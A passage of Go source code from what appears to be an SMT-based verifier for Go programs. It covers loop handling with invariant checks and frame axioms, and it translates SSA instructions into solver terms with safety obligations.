				if phi, ok := ins.(*ssa.Phi); ok {
					fr.env[phi] = fr.havocVal(phi.Type(), "dry_"+phi.Name())
				}
			}
		case isEntry:
			st = start.clone()
			fr.reach[b.Index] = entryGuard
			if li != nil {
				// loop header that is the function entry block: not produced by go/ssa
				fc.unsupported("entry block is a loop header")
			}
		case li != nil:
			st = fr.enterLoop(b, li, order)
		default:
			var preds []*ssa.BasicBlock
			for _, p := range b.Preds {
				if _, done := fr.exit[p.Index]; done && !fr.isBackEdge(p, b) {
					if dry != nil && !dry.blocks[p.Index] {
						continue
					}
					preds = append(preds, p)
				}
			}
			if len(preds) == 0 {
				// unreachable in this run
				fr.reach[b.Index] = "false"
				fr.exit[b.Index] = &State{vars: map[string]string{}}
				continue
			}
			var gs []string
			for _, p := range preds {
				gs = append(gs, fr.edgeGuard(p, b))
			}
			r := fc.freshConst(fmt.Sprintf("R%d_", b.Index), "Bool")
			fc.addFact("true", sEq(r, sOr(gs...)))
			fr.reach[b.Index] = r
			st = fr.mergeStates(preds, b)
			for _, ins := range b.Instrs {
				phi, ok := ins.(*ssa.Phi)
				if !ok {
					break
				}
				var vals []Val
				for _, p := range preds {
					for i, pp := range b.Preds {
						if pp == p {
							vals = append(vals, fr.val(phi.Edges[i]))
							break
						}
					}
				}
				fr.env[phi] = fr.mergeVals(preds, b, vals, phi.Type())
			}
		}
		fr.execBlock(b, st, dry)
	}
}

func (fr *Frame) execBlock(b *ssa.BasicBlock, st *State, dry *loopInfo) {
	if !fr.inlined {
		if fr.fc.reachBlock == nil {
			fr.fc.reachBlock = map[string]*ssa.BasicBlock{}
		}
		if r := fr.reach[b.Index]; r != "true" && r != "false" {
			fr.fc.reachBlock[r] = b
		}
	}
	for _, ins := range b.Instrs {
		if _, ok := ins.(*ssa.Phi); ok {
			continue
		}
		fr.exec(b, st, ins)
	}
	fr.exit[b.Index] = st
	// back edges: invariant preservation
	for _, s := range b.Succs {
		if fr.isBackEdge(b, s) {
			if dry != nil && dry.header == s {
				continue // dry run of this very loop: nothing to check
			}
			fr.checkInvariants(s, fr.loops[s.Index], []*ssa.BasicBlock{b}, "inv-keep")
			// vacuity probe (reported, never a violation): is this back edge reachable at all under the loop's invariants?
			// An unreachable back edge makes every inv-keep obligation of the loop vacuous (this is how the unchecked
			// loop frames were found).
			if fc, li := fr.fc, fr.loops[s.Index]; li != nil && fr.contract != nil && !fr.inlined && len(activeLogs[fc]) == 0 && len(fr.contract.LoopInv[li.ord]) > 0 {
				o := &Obligation{Name: fmt.Sprintf("cover:backedge:loop%d", li.ord), Kind: "cover-loop", Func: fc.fnName(), Guard: fr.edgeGuard(b, s), Goal: "false", NFacts: len(fc.facts), fc: fc, Props: fr.propsList, Cover: true, Block: b}
				fc.obls = append(fc.obls, o)
			}
		}
	}
}

// evaluate loop invariants on the given incoming edges and emit obligations
func (fr *Frame) checkInvariants(h *ssa.BasicBlock, li *loopInfo, preds []*ssa.BasicBlock, kind string) {
	if fr.contract == nil {
		return
	}
	invs := fr.contract.LoopInv[li.ord]
	if fr.inlined {
		return
	}
	for _, p := range preds {
		st := fr.exit[p.Index]
		guard := fr.edgeGuard(p, h)
		// bind phis to incoming values
		over := map[ssa.Value]Val{}
		for _, ins := range h.Instrs {
			phi, ok := ins.(*ssa.Phi)
			if !ok {
				break
			}
			for i, pp := range h.Preds {
				if pp == p {
					over[phi] = fr.val(phi.Edges[i])
				}
			}
		}
		for _, inv := range invs {
			env := fr.specEnv(st, fr.pre, h, over)
			t, sks := fr.evalGoal(inv.E, env)
			fr.fc.obligeSplit(kind, fmt.Sprintf("loop%d.%s", li.ord, inv.Label), guard, t, h.Instrs[0].Pos(), fr.propsFor(inv.Props), true, sks)
		}
	}
}

func (fr *Frame) propsFor(p []string) []string {
	if len(p) > 0 {
		return p
	}
	return fr.propsList
}

func (fr *Frame) enterLoop(h *ssa.BasicBlock, li *loopInfo, order []*ssa.BasicBlock) *State {
	fc := fr.fc
	if !fr.inlined {
		fc.curBlock = h
	}
	var entries []*ssa.BasicBlock
	for _, p := range li.entries {
		if _, done := fr.exit[p.Index]; done {
			entries = append(entries, p)
		}
	}
	if len(entries) == 0 {
		fr.reach[h.Index] = "false"
		return &State{vars: map[string]string{}}
	}
	// 1. invariants on entry
	fr.checkInvariants(h, li, entries, "inv-init")
	// 2. merged entry state
	var gs []string
	for _, p := range entries {
		gs = append(gs, fr.edgeGuard(p, h))
	}
	r := fc.freshConst(fmt.Sprintf("R%d_", h.Index), "Bool")
	fc.addFact("true", sEq(r, sOr(gs...)))
	fr.reach[h.Index] = r
	entrySt := fr.mergeStates(entries, h)
	// 3. dry run to find what the loop writes
	log := &FnLog{active: true, allocs: map[string]bool{}}
	saveFacts, saveObls, saveCounter := len(fc.facts), len(fc.obls), fc.counter
	saveCnt := map[string]int{}
	for k, v := range fc.nameCnt {
		saveCnt[k] = v
	}
	saveErrs := len(fc.errors)
	saveRets := len(fr.rets)
	saveCands := len(fc.cands)
	activeLogs[fc] = append(activeLogs[fc], log)
	saveFloor := fc.stampFloor
	if fc.stampFloor < 0 || saveFacts < fc.stampFloor {
		fc.stampFloor = saveFacts
	}
	fr.runBlocks(order, entrySt, r, li)
	fc.stampFloor = saveFloor
	activeLogs[fc] = activeLogs[fc][:len(activeLogs[fc])-1]
	fc.facts = fc.facts[:saveFacts]
	fc.obls = fc.obls[:saveObls]
	fc.nameCnt = saveCnt
	fr.rets = fr.rets[:saveRets]
	for _, c := range fc.cands[saveCands:] {
		delete(fc.candSet, c)
	}
	fc.cands = fc.cands[:saveCands]
	_ = saveErrs
	for bi := range li.blocks {
		delete(fr.exit, bi)
	}
	// propagate the log to enclosing dry runs
	for _, outer := range activeLogs[fc] {
		outer.writes = append(outer.writes, log.writes...)
		for a := range log.allocs {
			outer.allocs[a] = true
		}
	}
	// 4. havoc
	st := entrySt.clone()
	byVar := map[string][]writeRec{}
	var names []string
	for _, w := range log.writes {
		if _, ok := byVar[w.Var]; !ok {
			names = append(names, w.Var)
		}
		byVar[w.Var] = append(byVar[w.Var], w)
	}
	allocPre := fc.get(entrySt, hAlloc)
	declared := map[string][]string{}
	frontier := map[string]string{} // heaps whose declared frame is relative to the function's entry (funcfresh)
	if fr.contract != nil && !fr.inlined && len(fr.contract.LoopMod[li.ord]) > 0 {
		for _, m := range fr.contract.LoopMod[li.ord] {
			env := fr.specEnv(entrySt, fr.pre, h, nil)
			// phis take their entry values
			over := map[ssa.Value]Val{}
			for _, ins := range h.Instrs {
				phi, ok := ins.(*ssa.Phi)
				if !ok {
					break
				}
				for i, pp := range h.Preds {
					for _, e := range entries {
						if pp == e {
							over[phi] = fr.val(phi.Edges[i])
						}
					}
				}
			}
			env.over = over
			for _, t := range fr.modTargets(m, env) {
				if t.kind == "whole" {
					continue
				}
				if t.kind == "none" || t.kind == "nonefn" {
					if _, ok := declared[t.heap]; !ok {
						declared[t.heap] = []string{}
					}
					if t.kind == "nonefn" {
						frontier[t.heap] = fc.get(fr.pre, hAlloc)
					}
					continue
				}
				declared[t.heap] = append(declared[t.heap], t.row)
			}
		}
		if fr.loopCtxs == nil {
			fr.loopCtxs = map[int]*loopCtx{}
		}
		fr.loopCtxs[h.Index] = &loopCtx{li: li, allocPre: allocPre, declared: declared, frontier: frontier}
	}
	for _, v := range names {
		sort := fc.sortOfVar(v)
		pre := fc.get(entrySt, v)
		nv := fc.freshConst(v, sort)
		st.vars[v] = nv
		if v == hAlloc {
			fc.addFact("true", sApp(">=", nv, pre))
			continue
		}
		if !strings.HasPrefix(sort, "(Array") {
			continue
		}
		fc.pendingClosed = append(fc.pendingClosed, [2]string{nv, v})
		whole := false
		var exc []string
		seen := map[string]bool{}
		partial := map[string][]string{} // row -> element indices written (only those, all loop-invariant)
		fullRow := map[string]bool{}
		recs := byVar[v]
		if rows, ok := declared[v]; ok {
			// declared loop frame: the declared rows are the exceptions (checked at every write in the loop)
			recs = nil
			for _, r := range rows {
				if !seen[r] {
					seen[r] = true
					exc = append(exc, r)
				}
			}
		}
		for _, w := range recs {
			if w.Row == "" {
				whole = true
				break
			}
			if log.allocs[w.Row] {
				continue
			}
			if termInvariant(w.Row, saveCounter) {
				if !seen[w.Row] {
					seen[w.Row] = true
					exc = append(exc, w.Row)
				}
				if w.Idx != "" && termInvariant(w.Idx, saveCounter) && !fullRow[w.Row] {
					dup := false
					for _, x := range partial[w.Row] {
						if x == w.Idx {
							dup = true
						}
					}
					if !dup {
						partial[w.Row] = append(partial[w.Row], w.Idx)
					}
				} else {
					fullRow[w.Row] = true
					delete(partial, w.Row)
				}
				continue
			}
			whole = true
			break
		}
		if whole {
			continue
		}
		ap := allocPre
		if fa, ok := frontier[v]; ok {
			ap = fa
		}
		conds := []string{sApp("isold", "r", ap)}
		for _, e := range exc {
			conds = append(conds, sNot(sEq("r", e)))
		}
		if fc.frames == nil {
			fc.frames = map[string]frameInfo{}
		}
		fc.frames[nv] = frameInfo{pre: pre, alloc: ap, exc: exc, partial: partial}
		fc.facts = append(fc.facts, Fact{Guard: "true", Term: fmt.Sprintf("(forall ((r Int)) (! (=> %s (= (select %s r) (select %s r))) :pattern ((select %s r))))", sAnd(conds...), nv, pre, nv), Class: "frameq"})
		for _, row := range sortedKeys(partial) {
			idxs := partial[row]
			var cs []string
			for _, ix := range idxs {
				cs = append(cs, sNot(sEq("j", ix)))
			}
			fc.facts = append(fc.facts, Fact{Guard: "true", Term: fmt.Sprintf("(forall ((j Int)) (! (=> %s (= (select (select %s %s) j) (select (select %s %s) j))) :pattern ((select (select %s %s) j))))", sAnd(cs...), nv, row, pre, row, nv, row), Class: "frameq"})
		}
	}
	_ = saveCounter
	fr.flushClosed(st)
	if !fr.inlined {
		fc.curBlock = h
	}
	fr.curBlock = h
	// phis
	for _, ins := range h.Instrs {
		phi, ok := ins.(*ssa.Phi)
		if !ok {
			break
		}
		// an object of this function that enters the loop through a phi is from here on known by a name the
		// escape analysis cannot follow: it is no longer treated as unescaped
		for i, pp := range h.Preds {
			for _, e := range entries {
				if pp == e && i < len(phi.Edges) {
					if ev, ok := fr.env[phi.Edges[i]]; ok {
						fc.escapeVal(ev)
					} else if _, isConst := phi.Edges[i].(*ssa.Const); !isConst {
						fc.escapeVal(fr.val(phi.Edges[i]))
					}
				}
			}
		}
		v := fr.havocVal(phi.Type(), "loop_"+phi.Name())
		fr.env[phi] = v
		fc.addFact(r, fr.typeFacts(v, st))
		if phi.Comment == "rangeindex" && !v.IsAg {
			// the index of a range-over-slice loop generated by go/ssa runs -1, 0, ..., n-1: at the header
			// -1 <= phi and phi+1 <= max(n, 0), n being the length the header compares against
			fc.addFact(r, sApp("<=", "(- 1)", v.S))
			if iff, ok := h.Instrs[len(h.Instrs)-1].(*ssa.If); ok {
				if cmp, ok := iff.Cond.(*ssa.BinOp); ok && cmp.Op == token.LSS {
					if lenV, defined := fr.env[cmp.Y]; defined && !lenV.IsAg {
						fc.addFact(r, sApp("<=", sApp("+", v.S, "1"), sIte(sApp(">=", lenV.S, "0"), lenV.S, "0")))
					} else if c, isConst := cmp.Y.(*ssa.Const); isConst {
						lv := fr.constVal(c)
						fc.addFact(r, sApp("<=", sApp("+", v.S, "1"), sIte(sApp(">=", lv.S, "0"), lv.S, "0")))
					}
				}
			}
		}
		if _, _, isInt := intInfo(phi.Type()); isInt && !v.IsAg {
			fc.addCand(v.S)
			fc.addCand(sApp("+", v.S, "1"))
		}
	}
	// 5. assume invariants
	if fr.contract != nil && !fr.inlined {
		for _, inv := range fr.contract.LoopInv[li.ord] {
			env := fr.specEnv(st, fr.pre, h, nil)
			t, qs := fr.evalFact(inv.E, env)
			fc.addFactQ(r, t, qs)
		}
	}
	return st
}

// ---------------------------------------------------------------------------
// instructions

func (fr *Frame) exec(b *ssa.BasicBlock, st *State, ins ssa.Instruction) {
	fc := fr.fc
	fr.curBlock = b
	if !fr.inlined {
		fc.curBlock = b
	}
	switch x := ins.(type) {
	case *ssa.DebugRef:
	case *ssa.Alloc:
		t := x.Type().(*types.Pointer).Elem()
		r := fr.alloc(st, x.Name())
		l := &Loc{Kind: LObj, Base: r, Root: t, Elem: t}
		fr.zeroInit(st, l)
		fr.env[x] = Val{S: r, Typ: x.Type(), Loc: l}
		if len(activeLogs[fc]) == 0 {
			if fc.localRefs == nil {
				fc.localRefs = map[string]bool{}
			}
			fc.localRefs[r] = true
		}
	case *ssa.UnOp:
		fr.execUnOp(b, st, x)
	case *ssa.BinOp:
		fr.env[x] = fr.binop(b, x.Op, fr.val(x.X), fr.val(x.Y), x.Type(), x.Pos())
	case *ssa.FieldAddr:
		p := fr.val(x.X)
		l := fr.locOf(p)
		if l.Kind != LObj && l.Kind != LElemObj {
			fc.unsupported("FieldAddr on non-object")
			fr.env[x] = fr.havocVal(x.Type(), "fa")
			return
		}
		if l.Kind == LObj && l.Path == "" {
			fr.ob("nil", fr.src(x.Pos(), x.Name()), b, sNot(sEq(l.Base, "0")), x.Pos())
		}
		stt := x.X.Type().Underlying().(*types.Pointer).Elem().Underlying().(*types.Struct)
		root := l.Root
		if root == nil {
			root = l.Elem
		}
		_ = root
		nl := fr.fieldOf(l, stt.Field(x.Field))
		v := Val{Typ: x.Type(), Loc: nl}
		if nl.Kind == LObj && nl.Path == "" {
			v.S = nl.Base
		}
		fr.env[x] = v
	case *ssa.Field:
		a := fr.val(x.X)
		if a.IsAg && x.Field < len(a.Agg) {
			fr.env[x] = a.Agg[x.Field]
		} else {
			fc.unsupported("Field on non-aggregate")
			fr.env[x] = fr.havocVal(x.Type(), "fld")
		}
	case *ssa.Extract:
		a := fr.val(x.Tuple)
		if a.IsAg && x.Index < len(a.Agg) {
			v := a.Agg[x.Index]
			fr.env[x] = v
		} else {
			fc.unsupported("Extract on non-tuple %s", x.Tuple.Name())
			fr.env[x] = fr.havocVal(x.Type(), "ext")
		}
	case *ssa.Store:
		p := fr.val(x.Addr)
		l := fr.locOf(p)
		if l.Kind == LObj && l.Path == "" {
			fr.ob("nil", fr.src(x.Pos(), "store"), b, sNot(sEq(l.Base, "0")), x.Pos())
		}
		fc.escapeVal(fr.val(x.Val))
		fr.storeLoc(st, l, fr.val(x.Val))
	case *ssa.IndexAddr:
		fr.execIndexAddr(b, st, x)
	case *ssa.Index:
		fr.execIndex(b, st, x)
	case *ssa.Slice:
		fr.execSlice(b, st, x)
	case *ssa.MakeSlice:
		n := fr.scalar(fr.val(x.Len))
		c := fr.scalar(fr.val(x.Cap))
		fr.ob("slice", "make:"+fr.src(x.Pos(), x.Name()), b, sAnd(sApp("<=", "0", n), sApp("<=", n, c)), x.Pos())
		el := x.Type().Underlying().(*types.Slice).Elem()
		fr.env[x] = fr.newSlice(st, el, n, c, x.Type(), x.Name())
	case *ssa.MakeMap:
		r := fr.alloc(st, "map")
		mt := x.Type()
		fr.regMap(mt)
		m := mt.Underlying().(*types.Map)
		fr.wrRow(st, heapMapP(mt), r, "((as const (Array Int Bool)) false)")
		fr.wrRow(st, heapMapV(mt), r, fmt.Sprintf("((as const (Array Int %s)) %s)", sortOf(m.Elem()), zeroTerm(m.Elem())))
		fr.env[x] = Val{S: r, Typ: mt}
		if len(activeLogs[fc]) == 0 {
			if fc.localRefs == nil {
				fc.localRefs = map[string]bool{}
			}
			fc.localRefs[r] = true
		}
	case *ssa.MakeChan:
		r := fr.alloc(st, "chan")
		fr.env[x] = Val{S: r, Typ: x.Type()}
	case *ssa.MakeClosure:
		r := fr.alloc(st, "closure")
		fr.env[x] = Val{S: r, Typ: x.Type()}
		fc.closures[r] = x
	case *ssa.MakeInterface:
		fc.escapeVal(fr.val(x.X))
		fr.env[x] = fr.makeIface(st, fr.val(x.X), x.Type())
	case *ssa.ChangeInterface:
		v := fr.val(x.X)
		v.Typ = x.Type()
		fr.env[x] = v
	case *ssa.ChangeType:
		v := fr.val(x.X)
		v.Typ = x.Type()
		if v.Loc != nil {
			// pointer conversion between identical underlying types (e.g. *gabi/big.Int <-> *math/big.Int)
			nl := *v.Loc
			if pt, ok := x.Type().Underlying().(*types.Pointer); ok {
				if nl.Kind == LObj && nl.Path == "" {
					nl.Elem = pt.Elem()
					nl.Root = pt.Elem()
				}
			}
			v.Loc = &nl
		}
		fr.env[x] = v
	case *ssa.Convert:
		fr.env[x] = fr.convert(b, st, fr.val(x.X), x.Type(), x.Pos())
	case *ssa.MultiConvert:
		fr.env[x] = fr.convert(b, st, fr.val(x.X), x.Type(), x.Pos())
	case *ssa.TypeAssert:
		fr.execTypeAssert(b, st, x)
	case *ssa.Lookup:
		fr.execLookup(b, st, x)
	case *ssa.MapUpdate:
		m := fr.scalar(fr.val(x.Map))
		mt := x.Map.Type()
		fr.regMap(mt)
		fr.ob("mapwrite", fr.src(x.Pos(), "map"), b, sNot(sEq(m, "0")), x.Pos())
		k := fr.scalar(fr.val(x.Key))
		fc.escapeVal(fr.val(x.Value))
		fr.wr2(st, heapMapP(mt), m, k, "true")
		fr.wr2(st, heapMapV(mt), m, k, fr.scalar(fr.val(x.Value)))
	case *ssa.Range:
		fr.execRange(b, st, x)
	case *ssa.Next:
		fr.execNext(b, st, x)
	case *ssa.Call:
		fr.execCall(b, st, x)
	case *ssa.Defer:
		fr.deferred = append(fr.deferred, x)
	case *ssa.RunDefers:
		for i := len(fr.deferred) - 1; i >= 0; i-- {
			d := fr.deferred[i]
			if d.Block().Dominates(b) {
				fr.execCall(b, st, d)
			} else if d.Block() != b && fc.ancestors(b)[d.Block()] {
				// the defer statement lies on some but not all paths to this return
				fc.unsupported("conditional defer")
			}
			// otherwise the defer statement cannot have been executed on any path to this return
		}
	case *ssa.Go:
		fc.unsupported("go statement")
	case *ssa.Select:
		fr.execSelect(b, st, x)
	case *ssa.Send:
		// channel contents are not modelled
	case *ssa.If:
		c := fr.scalar(fr.val(x.Cond))
		fr.edgeCnd[edgeKey{b.Index, b.Succs[0].Index}] = c
		fr.edgeCnd[edgeKey{b.Index, b.Succs[1].Index}] = sNot(c)
		if b.Succs[0] == b.Succs[1] {
			fr.edgeCnd[edgeKey{b.Index, b.Succs[0].Index}] = "true"
		}
	case *ssa.Jump:
	case *ssa.Return:
		var vals []Val
		for _, r := range x.Results {
			vals = append(vals, fr.val(r))
			if !fr.inlined {
				fc.escapeVal(fr.val(r))
			}
		}
		fr.rets = append(fr.rets, retSite{blk: b, guard: fr.reach[b.Index], st: st.clone(), vals: vals, pos: x.Pos()})
	case *ssa.Panic:
		fr.ob("panic", fr.src(x.Pos(), "panic"), b, "false", x.Pos())
	case *ssa.SliceToArrayPointer:
		fc.unsupported("SliceToArrayPointer")
		fr.env[x] = fr.havocVal(x.Type(), "s2a")
	default:
		fc.unsupported("instruction %T", ins)
		if v, ok := ins.(ssa.Value); ok {
			fr.env[v] = fr.havocVal(v.Type(), "unk")
		}
	}
}

func (fr *Frame) src(pos token.Pos, fallback string) string {
	s := fr.fc.eng.srcExpr(fr.fn, pos)
	if s == "" {
		return fallback
	}
	return s
}

func (fr *Frame) regMap(mt types.Type) {
	m := mt.Underlying().(*types.Map)
	fr.fc.regVar(heapMapP(mt), arr2Sort("Bool"))
	if isAggType(m.Elem()) {
		fr.fc.unsupported("map with aggregate values %s", mt)
	}
	fr.fc.regVar(heapMapV(mt), arr2Sort(sortOf(m.Elem())))
}

func (fr *Frame) newSlice(st *State, el types.Type, n, c string, t types.Type, hint string) Val {
	fc := fr.fc
	a := fr.alloc(st, "arr")
	for _, eh := range fr.elemHeaps(el) {
		fr.wrRow(st, eh.heap, a, fmt.Sprintf("((as const (Array Int %s)) %s)", eh.sort, zeroTerm(eh.typ)))
	}
	s := fc.freshConst("sl_"+hint, "Int")
	fc.addFact("true", sAnd(sEq(sApp("sl_arr", s), a), sEq(sApp("sl_off", s), "0"), sEq(sApp("sl_len", s), n), sEq(sApp("sl_cap", s), c), sNot(sEq(s, "0"))))
	return Val{S: s, Typ: t}
}

func (fr *Frame) makeIface(st *State, v Val, it types.Type) Val {
	fc := fr.fc
	t := v.Typ
	if _, isIface := t.Underlying().(*types.Interface); isIface {
		v.Typ = it
		return v
	}
	tag := fc.eng.typeTag(t)
	var pay string
	switch {
	case v.IsAg:
		r := fr.alloc(st, "boxed")
		pay = r
		fc.boxed[r] = v
	case isBoolType(t):
		pay = sIte(v.S, "1", "0")
	default:
		pay = fr.scalar(v)
	}
	id := sApp("mkiface", fmt.Sprint(tag), pay)
	k := "ifacefact:" + id
	if !fc.declSet[k] {
		fc.declSet[k] = true
		fc.permFact(sAnd(sEq(sApp("itype", id), fmt.Sprint(tag)), sEq(sApp("ipay", id), pay), sNot(sEq(id, "0"))))
	}
	return Val{S: id, Typ: it}
}

func (fr *Frame) execUnOp(b *ssa.BasicBlock, st *State, x *ssa.UnOp) {
	fc := fr.fc
	switch x.Op {
	case token.MUL:
		p := fr.val(x.X)
		l := fr.locOf(p)
		if l.Kind == LObj && l.Path == "" {
			fr.ob("nil", fr.src(x.Pos(), "*"+x.X.Name()), b, sNot(sEq(l.Base, "0")), x.Pos())
		}
		v := fr.loadLoc(st, l)
		v.Typ = x.Type()
		fr.env[x] = v
		fr.assume(b, fr.typeFacts(v, st))
		fr.notLocal(b, v)
	case token.NOT:
		fr.env[x] = Val{S: sNot(fr.scalar(fr.val(x.X))), Typ: x.Type()}
	case token.SUB:
		fr.env[x] = Val{S: wrapTerm(x.Type(), sApp("-", fr.scalar(fr.val(x.X)))), Typ: x.Type()}
	case token.XOR:
		v := fr.scalar(fr.val(x.X))
		_, signed, _ := intInfo(x.Type())
		if signed {
			fr.env[x] = Val{S: sApp("-", sApp("-", v), "1"), Typ: x.Type()}
		} else {
			fr.env[x] = Val{S: wrapTerm(x.Type(), sApp("-", sApp("-", v), "1")), Typ: x.Type()}
		}
	case token.ARROW:
		v := fr.havocVal(x.Type(), "recv")
		fr.env[x] = v
		fr.assume(b, fr.typeFacts(v, st))
		if x.CommaOk && v.IsAg && len(v.Agg) == 2 {
			fr.receivedFacts(b, st, v.Agg[0], v.Agg[1].S)
		} else {
			fr.receivedFacts(b, st, v, "true")
		}
	default:
		fc.unsupported("unop %s", x.Op)
		fr.env[x] = fr.havocVal(x.Type(), "unop")
	}
}

func pow2Const(n int64) string {
	return new(bigInt).Lsh(bigOne, uint(n)).String()
}

func (fr *Frame) binop(b *ssa.BasicBlock, op token.Token, x, y Val, t types.Type, pos token.Pos) Val {
	fc := fr.fc
	if x.IsAg || y.IsAg {
		if op == token.EQL || op == token.NEQ {
			var eqs []string
			for i := range x.Agg {
				if i < len(y.Agg) {
					e := fr.binop(b, token.EQL, x.Agg[i], y.Agg[i], t, pos)
					eqs = append(eqs, e.S)
				}
			}
			r := sAnd(eqs...)
			if op == token.NEQ {
				r = sNot(r)
			}
			return Val{S: r, Typ: t}
		}
		fc.unsupported("binop on aggregates")
		return fr.havocVal(t, "binop")
	}
	a, c := fr.scalar(x), fr.scalar(y)
	isStr := false
	if bt, ok := x.Typ.Underlying().(*types.Basic); ok && bt.Info()&types.IsString != 0 {
		isStr = true
	}
	boolOperands := isBoolType(x.Typ)
	switch op {
	case token.ADD:
		if isStr {
			r := sApp("strcat", a, c)
			fc.addFact("true", sEq(sApp("strlen", r), sApp("+", sApp("strlen", a), sApp("strlen", c))))
			return Val{S: r, Typ: t}
		}
		return Val{S: wrapTerm(t, sApp("+", a, c)), Typ: t}
	case token.SUB:
		return Val{S: wrapTerm(t, sApp("-", a, c)), Typ: t}
	case token.MUL:
		return Val{S: wrapTerm(t, fr.mulTerm(a, c)), Typ: t}
	case token.QUO:
		fr.ob("div", fr.src(pos, "quo"), b, sNot(sEq(c, "0")), pos)
		return Val{S: wrapTerm(t, sApp("tdiv", a, c)), Typ: t}
	case token.REM:
		fr.ob("div", fr.src(pos, "rem"), b, sNot(sEq(c, "0")), pos)
		return Val{S: sApp("trem", a, c), Typ: t}
	case token.EQL:
		if boolOperands {
			return Val{S: sEq(a, c), Typ: t}
		}
		return Val{S: sEq(a, c), Typ: t}
	case token.NEQ:
		return Val{S: sNot(sEq(a, c)), Typ: t}
	case token.LSS:
		return Val{S: sApp("<", a, c), Typ: t}
	case token.LEQ:
		return Val{S: sApp("<=", a, c), Typ: t}
	case token.GTR:
		return Val{S: sApp(">", a, c), Typ: t}
	case token.GEQ:
		return Val{S: sApp(">=", a, c), Typ: t}
	case token.SHL:
		if n, ok := numeral(c); ok && n < 256 {
			return Val{S: wrapTerm(t, sApp("*", a, pow2Const(n))), Typ: t}
		}
		r := sApp("shl64", a, c)
		fc.addFact("true", rangeFact(t, r))
		return Val{S: r, Typ: t}
	case token.SHR:
		if n, ok := numeral(c); ok && n < 256 {
			return Val{S: sApp("div", a, pow2Const(n)), Typ: t}
		}
		r := sApp("shr64", a, c)
		fc.addFact("true", rangeFact(t, r))
		return Val{S: r, Typ: t}
	case token.AND:
		if boolOperands {
			return Val{S: sAnd(a, c), Typ: t}
		}
		if n, ok := numeral(c); ok && isMask(n) {
			return Val{S: sApp("mod", a, fmt.Sprint(n+1)), Typ: t}
		}
		if n, ok := numeral(a); ok && isMask(n) {
			return Val{S: sApp("mod", c, fmt.Sprint(n+1)), Typ: t}
		}
		r := sApp("bitand64", a, c)
		fc.addFact("true", rangeFact(t, r))
		return Val{S: r, Typ: t}
	case token.OR:
		if boolOperands {
			return Val{S: sOr(a, c), Typ: t}
		}
		if n, ok := numeral(c); ok && n == 1 {
			// x | 1 : make odd
			return Val{S: sApp("+", a, sIte(sEq(sApp("mod", a, "2"), "0"), "1", "0")), Typ: t}
		}
		r := sApp("bitor64", a, c)
		fc.addFact("true", rangeFact(t, r))
		return Val{S: r, Typ: t}
	case token.XOR:
		if boolOperands {
			return Val{S: sNot(sEq(a, c)), Typ: t}
		}
		r := sApp("bitxor64", a, c)
		fc.addFact("true", rangeFact(t, r))
		return Val{S: r, Typ: t}
	case token.AND_NOT:
		r := sApp("bitand64", a, sApp("bignot", c))
		fc.addFact("true", rangeFact(t, r))
		return Val{S: r, Typ: t}
	}
	fc.unsupported("binop %s", op)
	return fr.havocVal(t, "binop")
}

func numeral(s string) (int64, bool) {
	n, err := strconv.ParseInt(s, 10, 64)
	if err != nil {
		return 0, false
	}
	return n, true
}

func isMask(n int64) bool { return n > 0 && (n&(n+1)) == 0 }

func (fr *Frame) convert(b *ssa.BasicBlock, st *State, v Val, t types.Type, pos token.Pos) Val {
	fc := fr.fc
	from := v.Typ
	_, _, fromInt := intInfo(from)
	_, _, toInt := intInfo(t)
	switch {
	case fromInt && toInt:
		return Val{S: wrapTerm(t, fr.scalar(v)), Typ: t}
	case toInt || fromInt:
		// float<->int, string(int) etc.
		if bt, ok := t.Underlying().(*types.Basic); ok && bt.Info()&types.IsString != 0 {
			r := fc.freshConst("str", "Int")
			return Val{S: r, Typ: t}
		}
		return fr.havocVal(t, "conv")
	}
	// string <-> []byte
	if bt, ok := from.Underlying().(*types.Basic); ok && bt.Info()&types.IsString != 0 {
		if sl, ok := t.Underlying().(*types.Slice); ok {
			s := fr.newSliceFresh(st, sl.Elem(), sApp("strlen", fr.scalar(v)), t, "bytes")
			fr.declBytesOf()
			fc.addFact("true", sEq(fr.bseqOf(st, s), sApp("strbytes", fr.scalar(v))))
			return s
		}
	}
	if sl, ok := from.Underlying().(*types.Slice); ok {
		if bt, ok := t.Underlying().(*types.Basic); ok && bt.Info()&types.IsString != 0 {
			_ = sl
			fr.declBytesOf()
			r := sApp("strof", fr.bseqOf(st, v))
			fc.addFact("true", sEq(sApp("strlen", r), sApp("sl_len", fr.scalar(v))))
			return Val{S: r, Typ: t}
		}
	}
	// pointer conversions (unsafe) etc.
	nv := v
	nv.Typ = t
	return nv
}

func (fr *Frame) declBytesOf() {
	fc := fr.fc
	if !fc.declSet["fun:strbytes"] {
		fc.declSet["fun:strbytes"] = true
		fc.decls = append(fc.decls, "(declare-fun strbytes (Int) Int)")
	}
}

// abstract content of a byte slice in state st
func (fr *Frame) bseqOf(st *State, s Val) string {
	fc := fr.fc
	el := s.Typ.Underlying().(*types.Slice).Elem()
	h := heapElem(el)
	fc.regVar(h, arr2Sort(sortOf(el)))
	id := fr.scalar(s)
	return sApp("bseq", fc.rd(st, h, sApp("sl_arr", id)), sApp("sl_off", id), sApp("sl_len", id))
}

// newSliceFresh: fresh slice with unknown contents
func (fr *Frame) newSliceFresh(st *State, el types.Type, n string, t types.Type, hint string) Val {
	fc := fr.fc
	a := fr.alloc(st, "arr")
	h := heapElem(el)
	fc.regVar(h, arr2Sort(sortOf(el)))
	fr.wrRow(st, h, a, fc.freshConst("row", arrSort(sortOf(el))))
	s := fc.freshConst("sl_"+hint, "Int")
	fc.addFact("true", sAnd(sEq(sApp("sl_arr", s), a), sEq(sApp("sl_off", s), "0"), sEq(sApp("sl_len", s), n), sApp(">=", sApp("sl_cap", s), n), sApp("<=", sApp("sl_cap", s), "281474976710656"), sApp(">=", n, "0"), sNot(sEq(s, "0"))))
	return Val{S: s, Typ: t}
}

func (fr *Frame) execIndexAddr(b *ssa.BasicBlock, st *State, x *ssa.IndexAddr) {
	fc := fr.fc
	base := fr.val(x.X)
	idx := fr.scalar(fr.val(x.Index))
	switch u := x.X.Type().Underlying().(type) {
	case *types.Slice:
		s := fr.scalar(base)
		fr.ob("index", fr.src(x.Pos(), x.Name()), b, sAnd(sApp("<=", "0", idx), sApp("<", idx, sApp("sl_len", s))), x.Pos())
		el := u.Elem()
		if _, isStruct := el.Underlying().(*types.Struct); isStruct && !isBigInt(el) {
			fr.env[x] = Val{Typ: x.Type(), Loc: &Loc{Kind: LElemObj, Base: sApp("sl_arr", s), Idx: sApp("+", sApp("sl_off", s), idx), Root: el, Elem: el}}
			return
		}
		if isAggType(el) {
			fc.unsupported("slice of aggregates %s", el)
